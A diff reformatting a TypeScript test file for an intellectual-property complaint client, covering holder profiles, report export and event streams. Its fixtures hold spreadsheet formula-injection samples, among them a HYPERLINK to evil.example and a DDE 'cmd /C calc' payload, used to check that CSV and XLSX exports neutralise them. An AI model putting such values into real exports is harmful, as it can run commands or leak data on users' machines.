@@ -8,7 +8,12 @@ import { join } from 'node:path';
 import * as XLSX from 'xlsx';
 import Papa from 'papaparse';
 import {
-  DECLARATION_VERSION, LIMITS, statusReportHeaders, type ComplaintEvent, type EvidenceDescriptor, type Product,
+  DECLARATION_VERSION,
+  LIMITS,
+  statusReportHeaders,
+  type ComplaintEvent,
+  type EvidenceDescriptor,
+  type Product,
 } from '@ipr/validators';
 import { createIprClient, unwrap, type IprClient, type LiveState } from '../src/index.js';
 import { BASE, clientOn, countRequests, startApi, TOKENS, type TestApi } from './support/api.js';
@@ -19,7 +24,7 @@ let api: TestApi;
 const HOSTILE = [
   { id: 'hostile0001', name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
   { id: 'hostile0002', name: '+SUM(1,2)' },
-  { id: 'hostile0003', name: '-2+3+cmd|\' /C calc\'!A0' },
+  { id: 'hostile0003', name: "-2+3+cmd|' /C calc'!A0" },
   { id: 'hostile0004', name: '@SUM(1+1)' },
 ];
 const productUrl = (id: string) => `https://market.example/product/${id}`;
@@ -33,7 +38,9 @@ before(async () => {
     );
   }
 });
-after(async () => { await api?.close(); });
+after(async () => {
+  await api?.close();
+});
 
 const client = clientOn(() => api);
 
@@ -64,14 +71,27 @@ async function freshProducts(n: number): Promise<Product[]> {
   return items;
 }
 
-async function fileComplaint(links: string[], c: IprClient = client(), description = 'These listings copy our registered trademark.') {
+async function fileComplaint(
+  links: string[],
+  c: IprClient = client(),
+  description = 'These listings copy our registered trademark.',
+) {
   const evidence = await upload(c, 'proof.png');
   const account = unwrap(await c.account.get());
-  return unwrap(await c.complaints.create({
-    type: 'trademark_infringement', productLinks: links, description, contact: account.contact, isIprHolder: true,
-    evidence: [{ id: evidence.id }],
-    declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
-  }, { evidence: [evidence] }));
+  return unwrap(
+    await c.complaints.create(
+      {
+        type: 'trademark_infringement',
+        productLinks: links,
+        description,
+        contact: account.contact,
+        isIprHolder: true,
+        evidence: [{ id: evidence.id }],
+        declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
+      },
+      { evidence: [evidence] },
+    ),
+  );
 }
 
 describe('holder profiles', () => {
@@ -80,8 +100,13 @@ describe('holder profiles', () => {
     const idDoc = await upload(c, 'licence.pdf');
     const poa = await upload(c, 'power-of-attorney.pdf');
     const holder = {
-      name: 'Aurora Holdings Ltd.', identificationType: 'business_registration' as const, identificationNumber: '91440300MA5XXXXX',
-      identificationAttachments: [idDoc.id], powerOfAttorney: [poa.id], powerOfAttorneyExpiresAt: day(10), profileId: 'ignored_on_input',
+      name: 'Aurora Holdings Ltd.',
+      identificationType: 'business_registration' as const,
+      identificationNumber: '91440300MA5XXXXX',
+      identificationAttachments: [idDoc.id],
+      powerOfAttorney: [poa.id],
+      powerOfAttorneyExpiresAt: day(10),
+      profileId: 'ignored_on_input',
     };
     const created = await c.holderProfiles.create({ label: '  ', holder });
     assert.ok(created.data, JSON.stringify(created.error));
@@ -94,11 +119,17 @@ describe('holder profiles', () => {
     const listed = unwrap(await c.holderProfiles.list());
     assert.equal(listed.items[0]?.id, created.data.id, 'newest first');
 
-    const updated = await c.holderProfiles.update(created.data.id, { label: 'Main holder', holder: { ...holder, powerOfAttorneyExpiresAt: day(400) } });
+    const updated = await c.holderProfiles.update(created.data.id, {
+      label: 'Main holder',
+      holder: { ...holder, powerOfAttorneyExpiresAt: day(400) },
+    });
     assert.ok(updated.data, JSON.stringify(updated.error));
     assert.equal(updated.data.label, 'Main holder');
     assert.equal(updated.data.powerOfAttorney.state, 'valid');
-    assert.equal(unwrap(await c.holderProfiles.list()).items.find((p) => p.id === created.data!.id)?.label, 'Main holder');
+    assert.equal(
+      unwrap(await c.holderProfiles.list()).items.find((p) => p.id === created.data!.id)?.label,
+      'Main holder',
+    );
 
     const removed = await c.holderProfiles.remove(created.data.id);
     assert.equal(removed.error, undefined);
@@ -110,16 +141,46 @@ describe('holder profiles', () => {
     assert.equal(again.error?.status, 404);
   });
 
-  test('a profile that breaks the holder rule is refused before the network, with the validators\' codes', async () => {
+  test("a profile that breaks the holder rule is refused before the network, with the validators' codes", async () => {
     const c = client();
     const cases: [unknown, string[]][] = [
-      [{ holder: { name: '', identificationNumber: '', identificationAttachments: [], powerOfAttorney: [] } },
-        ['holder.name_required', 'holder.id_type_required', 'holder.id_number_required', 'holder.attachments_required', 'holder.power_of_attorney_required']],
-      [{ holder: { name: 'X', identificationType: 'id_card', identificationNumber: '1', identificationAttachments: ['ev_1'], powerOfAttorney: ['ev_2'], powerOfAttorneyExpiresAt: day(-1) } },
-        ['holder.power_of_attorney_expired']],
+      [
+        { holder: { name: '', identificationNumber: '', identificationAttachments: [], powerOfAttorney: [] } },
+        [
+          'holder.name_required',
+          'holder.id_type_required',
+          'holder.id_number_required',
+          'holder.attachments_required',
+          'holder.power_of_attorney_required',
+        ],
+      ],
+      [
+        {
+          holder: {
+            name: 'X',
+            identificationType: 'id_card',
+            identificationNumber: '1',
+            identificationAttachments: ['ev_1'],
+            powerOfAttorney: ['ev_2'],
+            powerOfAttorneyExpiresAt: day(-1),
+          },
+        },
+        ['holder.power_of_attorney_expired'],
+      ],
       [null, ['holder.required']],
-      [{ label: 'x'.repeat(LIMITS.maxProfileLabelLength + 1), holder: { name: 'X', identificationType: 'id_card', identificationNumber: '1', identificationAttachments: ['ev_1'], powerOfAttorney: ['ev_2'] } },
-        ['field.too_long']],
+      [
+        {
+          label: 'x'.repeat(LIMITS.maxProfileLabelLength + 1),
+          holder: {
+            name: 'X',
+            identificationType: 'id_card',
+            identificationNumber: '1',
+            identificationAttachments: ['ev_1'],
+            powerOfAttorney: ['ev_2'],
+          },
+        },
+        ['field.too_long'],
+      ],
     ];
     for (const [input, codes] of cases) {
       for (const call of [() => c.holderProfiles.create(input), () => c.holderProfiles.update('hp_any', input)]) {
@@ -131,27 +192,46 @@ describe('holder profiles', () => {
     }
   });
 
-  test('what only the server knows: another account\'s documents (422), another account\'s profile (404), a supplier (403)', async () => {
+  test("what only the server knows: another account's documents (422), another account's profile (404), a supplier (403)", async () => {
     const a = client();
     const b = client(TOKENS.complainantB);
     const bDoc = await upload(b, 'b-licence.pdf');
-    const foreign = await a.holderProfiles.create({ holder: {
-      name: 'Borrowed', identificationType: 'id_card', identificationNumber: 'X1', identificationAttachments: [bDoc.id], powerOfAttorney: [bDoc.id],
-    } });
+    const foreign = await a.holderProfiles.create({
+      holder: {
+        name: 'Borrowed',
+        identificationType: 'id_card',
+        identificationNumber: 'X1',
+        identificationAttachments: [bDoc.id],
+        powerOfAttorney: [bDoc.id],
+      },
+    });
     assert.equal(foreign.error?.status, 422);
     assert.equal(foreign.error?.code, 'evidence.not_found');
 
     const aDoc = await upload(a, 'a-licence.pdf');
-    const mine = unwrap(await a.holderProfiles.create({ label: 'A only', holder: {
-      name: 'Aurora', identificationType: 'id_card', identificationNumber: 'A1', identificationAttachments: [aDoc.id], powerOfAttorney: [aDoc.id],
-    } }));
+    const mine = unwrap(
+      await a.holderProfiles.create({
+        label: 'A only',
+        holder: {
+          name: 'Aurora',
+          identificationType: 'id_card',
+          identificationNumber: 'A1',
+          identificationAttachments: [aDoc.id],
+          powerOfAttorney: [aDoc.id],
+        },
+      }),
+    );
     const input = { holder: { ...mine.holder, name: 'Taken over' } };
     for (const r of [await b.holderProfiles.update(mine.id, input), await b.holderProfiles.remove(mine.id)]) {
       assert.equal(r.error?.code, 'resource.not_found');
       assert.equal(r.error?.status, 404);
     }
     assert.ok(!unwrap(await b.holderProfiles.list()).items.some((p) => p.id === mine.id));
-    assert.equal(unwrap(await a.holderProfiles.list()).items.find((p) => p.id === mine.id)?.holder.name, 'Aurora', 'unchanged');
+    assert.equal(
+      unwrap(await a.holderProfiles.list()).items.find((p) => p.id === mine.id)?.holder.name,
+      'Aurora',
+      'unchanged',
+    );
     const supplier = await client(TOKENS.supplierA).holderProfiles.list();
     assert.equal(supplier.error?.status, 403);
   });
@@ -160,7 +240,11 @@ describe('holder profiles', () => {
 describe('status report and export', () => {
   let hostileNumber = '';
   before(async () => {
-    const complaint = await fileComplaint(HOSTILE.map((p) => productUrl(p.id)), client(), '=cmd|\'/C calc\'!A0 these copy our mark');
+    const complaint = await fileComplaint(
+      HOSTILE.map((p) => productUrl(p.id)),
+      client(),
+      "=cmd|'/C calc'!A0 these copy our mark",
+    );
     hostileNumber = complaint.number;
     unwrap(await client(TOKENS.platform).complaints.forward(complaint.id));
   });
@@ -177,7 +261,10 @@ describe('status report and export', () => {
     const all = unwrap(await client().complaints.statusReport());
     assert.ok(all.rows.length >= report.rows.length);
     const times = all.rows.map((r) => Date.parse(r.createdAt));
-    assert.ok(times.every((t, i) => i === 0 || times[i - 1]! >= t), 'newest complaint first');
+    assert.ok(
+      times.every((t, i) => i === 0 || times[i - 1]! >= t),
+      'newest complaint first',
+    );
   });
 
   test('xlsx: a real workbook whose every cell is text and no cell can run as a formula', async () => {
@@ -203,8 +290,15 @@ describe('status report and export', () => {
     const hostileRows = rows.filter((r) => r[0] === hostileNumber);
     assert.equal(hostileRows.length, HOSTILE.length);
     const nameCol = statusReportHeaders('en').indexOf('Product name');
-    assert.deepEqual(hostileRows.map((r) => r[nameCol]).sort(), HOSTILE.map((p) => `'${p.name}`).sort(), 'names kept, behind an apostrophe');
-    assert.ok(hostileRows.every((r) => r.includes('Awaiting supplier') && r.includes('Pending')), 'labels, not codes');
+    assert.deepEqual(
+      hostileRows.map((r) => r[nameCol]).sort(),
+      HOSTILE.map((p) => `'${p.name}`).sort(),
+      'names kept, behind an apostrophe',
+    );
+    assert.ok(
+      hostileRows.every((r) => r.includes('Awaiting supplier') && r.includes('Pending')),
+      'labels, not codes',
+    );
   });
 
   test('csv: UTF-8 with a BOM, zh-CN labels, parses back to the same table, neutralised', async () => {
@@ -223,17 +317,30 @@ describe('status report and export', () => {
     assert.equal(parsed.data.length, 1 + HOSTILE.length);
     for (const row of parsed.data) for (const cell of row) assert.doesNotMatch(cell, FORMULA, cell);
     const nameCol = statusReportHeaders('en').indexOf('Product name');
-    assert.deepEqual(parsed.data.slice(1).map((r) => r[nameCol]).sort(), HOSTILE.map((p) => `'${p.name}`).sort());
-    assert.ok(parsed.data.slice(1).every((r) => r.includes('等待供应商处理')), 'zh-CN status label');
+    assert.deepEqual(
+      parsed.data
+        .slice(1)
+        .map((r) => r[nameCol])
+        .sort(),
+      HOSTILE.map((p) => `'${p.name}`).sort(),
+    );
+    assert.ok(
+      parsed.data.slice(1).every((r) => r.includes('等待供应商处理')),
+      'zh-CN status label',
+    );
   });
 
   test('filters reach the server; a supplier exports only its own products; a bad format costs no request', async () => {
     const none = unwrap(await client().complaints.exportStatus({ format: 'csv', status: 'arbitrated' }));
     const other = unwrap(await client().complaints.statusReport({ status: 'arbitrated' }));
     assert.equal(none.rows, other.rows.length);
-    const supplierB = unwrap(await client(TOKENS.supplierB).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }));
-    assert.equal(supplierB.rows, 0, 'the hostile products are supplier A\'s');
-    const supplierA = unwrap(await client(TOKENS.supplierA).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }));
+    const supplierB = unwrap(
+      await client(TOKENS.supplierB).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }),
+    );
+    assert.equal(supplierB.rows, 0, "the hostile products are supplier A's");
+    const supplierA = unwrap(
+      await client(TOKENS.supplierA).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }),
+    );
     assert.equal(supplierA.rows, HOSTILE.length);
     const { value, requests } = await counting(() => client().complaints.exportStatus({ format: 'pdf' as never }));
     assert.equal(requests, 0);
@@ -241,7 +348,9 @@ describe('status report and export', () => {
     assert.equal(value.error?.status, 422);
     const bad = await client().complaints.exportStatus({ format: 'csv', status: 'nonsense' });
     assert.equal(bad.error?.status, 422, 'the server refuses an unknown status');
-    const unauth = await createIprClient({ baseUrl: BASE, fetch: api.fetch as typeof fetch }).complaints.exportStatus({ format: 'csv' });
+    const unauth = await createIprClient({ baseUrl: BASE, fetch: api.fetch as typeof fetch }).complaints.exportStatus({
+      format: 'csv',
+    });
     assert.equal(unauth.error?.code, 'auth.unauthorized');
   });
 });
@@ -251,11 +360,16 @@ function follow(c: IprClient, after?: number) {
   const events: ComplaintEvent[] = [];
   const states: LiveState[] = [];
   const errors: string[] = [];
-  const unsubscribe = c.events.subscribe((e) => events.push(e), { after, onState: (s) => states.push(s), onError: (e) => errors.push(e.code) });
+  const unsubscribe = c.events.subscribe((e) => events.push(e), {
+    after,
+    onState: (s) => states.push(s),
+    onError: (e) => errors.push(e.code),
+  });
   const until = async (check: () => boolean, what: string, ms = 8000) => {
     const end = Date.now() + ms;
     while (!check()) {
-      if (Date.now() > end) throw new Error(`timed out waiting for ${what}; events: ${JSON.stringify(events)}; states: ${states}`);
+      if (Date.now() > end)
+        throw new Error(`timed out waiting for ${what}; events: ${JSON.stringify(events)}; states: ${states}`);
       await new Promise((r) => setTimeout(r, 10));
     }
   };
@@ -273,27 +387,52 @@ describe('events', () => {
     const created = await fileComplaint([p1!.url, p2!.url]);
     await platform.until(() => platform.events.some((e) => e.id === created.id), 'the create event');
     unwrap(await client(TOKENS.platform).complaints.forward(created.id));
-    await platform.until(() => platform.events.some((e) => e.id === created.id && e.action === 'forward_to_supplier'), 'the forward event');
-    await a.until(() => a.events.some((e) => e.id === created.id && e.action === 'forward_to_supplier'), 'A hears its complaint forwarded');
+    await platform.until(
+      () => platform.events.some((e) => e.id === created.id && e.action === 'forward_to_supplier'),
+      'the forward event',
+    );
+    await a.until(
+      () => a.events.some((e) => e.id === created.id && e.action === 'forward_to_supplier'),
+      'A hears its complaint forwarded',
+    );
 
     const mine = platform.events.filter((e) => e.id === created.id);
-    assert.deepEqual(mine.map((e) => [e.action, e.status]), [['create', 'submitted'], ['forward_to_supplier', 'awaiting_supplier']]);
+    assert.deepEqual(
+      mine.map((e) => [e.action, e.status]),
+      [
+        ['create', 'submitted'],
+        ['forward_to_supplier', 'awaiting_supplier'],
+      ],
+    );
     assert.equal(mine[0]!.number, created.number);
     assert.ok(mine[1]!.seq > mine[0]!.seq);
     const seqs = platform.events.map((e) => e.seq);
-    assert.deepEqual(seqs, [...seqs].sort((x, y) => x - y), 'in seq order, each once');
+    assert.deepEqual(
+      seqs,
+      [...seqs].sort((x, y) => x - y),
+      'in seq order, each once',
+    );
     assert.equal(new Set(seqs).size, seqs.length);
     assert.ok(!b.events.some((e) => e.id === created.id), 'another complainant hears nothing of it');
 
     // Replay: a new subscriber that was away since before the create.
     const replay = follow(client(TOKENS.platform), mine[0]!.seq - 1);
-    await replay.until(() => replay.events.filter((e) => e.id === created.id).length === 2, 'the replayed create and forward');
-    assert.deepEqual(replay.events.filter((e) => e.id === created.id), mine);
+    await replay.until(
+      () => replay.events.filter((e) => e.id === created.id).length === 2,
+      'the replayed create and forward',
+    );
+    assert.deepEqual(
+      replay.events.filter((e) => e.id === created.id),
+      mine,
+    );
     assert.equal(replay.events[0]!.seq, mine[0]!.seq, 'starts right after `after`');
 
     for (const f of [platform, a, b, replay]) f.unsubscribe();
     for (const f of [platform, a, b, replay]) assert.equal(f.states.at(-1), 'closed');
-    assert.deepEqual([platform, a, b, replay].flatMap((f) => f.errors), []);
+    assert.deepEqual(
+      [platform, a, b, replay].flatMap((f) => f.errors),
+      [],
+    );
   });
 
   test('an unknown token: closed with auth.unauthorized after one request', async () => {
@@ -310,30 +449,55 @@ describe('events', () => {
     const { startServer } = await import('@ipr/server/node');
     const dataDir = await mkdtemp(join(tmpdir(), 'ipr-client-events-'));
     const server = await startServer({
-      port: 0, hostname: '127.0.0.1', dataDir, seed: true, catalogueSize: 60,
+      port: 0,
+      hostname: '127.0.0.1',
+      dataDir,
+      seed: true,
+      catalogueSize: 60,
       ...(process.env.TEST_DATABASE_URL ? { databaseUrl: process.env.TEST_DATABASE_URL } : {}),
     });
     const http = (token: string) => createIprClient({ baseUrl: server.url, token });
     const platform = follow(http(TOKENS.platform));
     try {
       await platform.until(() => platform.states.includes('open'), 'open');
-      const products = unwrap(await http(TOKENS.complainantA).products.search({ q: 'lamp', pageSize: 50 })).items.filter((p) => p.listed);
+      const products = unwrap(
+        await http(TOKENS.complainantA).products.search({ q: 'lamp', pageSize: 50 }),
+      ).items.filter((p) => p.listed);
       const c = http(TOKENS.complainantA);
       // Products in no open complaint of A (a kept PostgreSQL database remembers earlier runs), and
       // the complaint is cancelled at the end so the next run finds them free again.
-      const free = unwrap(await c.products.resolveLinks(products.map((p) => p.url))).items.filter((i) => i.status === 'found' && !i.openComplaint);
-      const pick = free.sort(() => Math.random() - 0.5).slice(0, 3).map((i) => i.product!);
+      const free = unwrap(await c.products.resolveLinks(products.map((p) => p.url))).items.filter(
+        (i) => i.status === 'found' && !i.openComplaint,
+      );
+      const pick = free
+        .sort(() => Math.random() - 0.5)
+        .slice(0, 3)
+        .map((i) => i.product!);
       assert.ok(pick.length > 0, 'a product in no open complaint');
       const evidence = unwrap(await c.evidence.upload(png(), { name: 'proof.png' }));
       const account = unwrap(await c.account.get());
-      const created = await c.complaints.create({
-        type: 'copyright_infringement', productLinks: pick.map((p) => p.url), description: `Copied pictures ${Date.now()}`, contact: account.contact,
-        isIprHolder: true, evidence: [{ id: evidence.id }], declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
-      }, { evidence: [evidence] });
+      const created = await c.complaints.create(
+        {
+          type: 'copyright_infringement',
+          productLinks: pick.map((p) => p.url),
+          description: `Copied pictures ${Date.now()}`,
+          contact: account.contact,
+          isIprHolder: true,
+          evidence: [{ id: evidence.id }],
+          declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
+        },
+        { evidence: [evidence] },
+      );
       assert.ok(created.data, JSON.stringify(created.error));
-      await platform.until(() => platform.events.some((e) => e.id === created.data!.id && e.action === 'create'), 'the create over HTTP');
+      await platform.until(
+        () => platform.events.some((e) => e.id === created.data!.id && e.action === 'create'),
+        'the create over HTTP',
+      );
       unwrap(await c.complaints.cancel(created.data.id, { reason: 'test run over' }));
-      await platform.until(() => platform.events.some((e) => e.id === created.data!.id && e.action === 'cancel'), 'the cancel over HTTP');
+      await platform.until(
+        () => platform.events.some((e) => e.id === created.data!.id && e.action === 'cancel'),
+        'the cancel over HTTP',
+      );
       platform.unsubscribe();
       assert.equal(platform.states.at(-1), 'closed');
       assert.deepEqual(platform.errors, []);
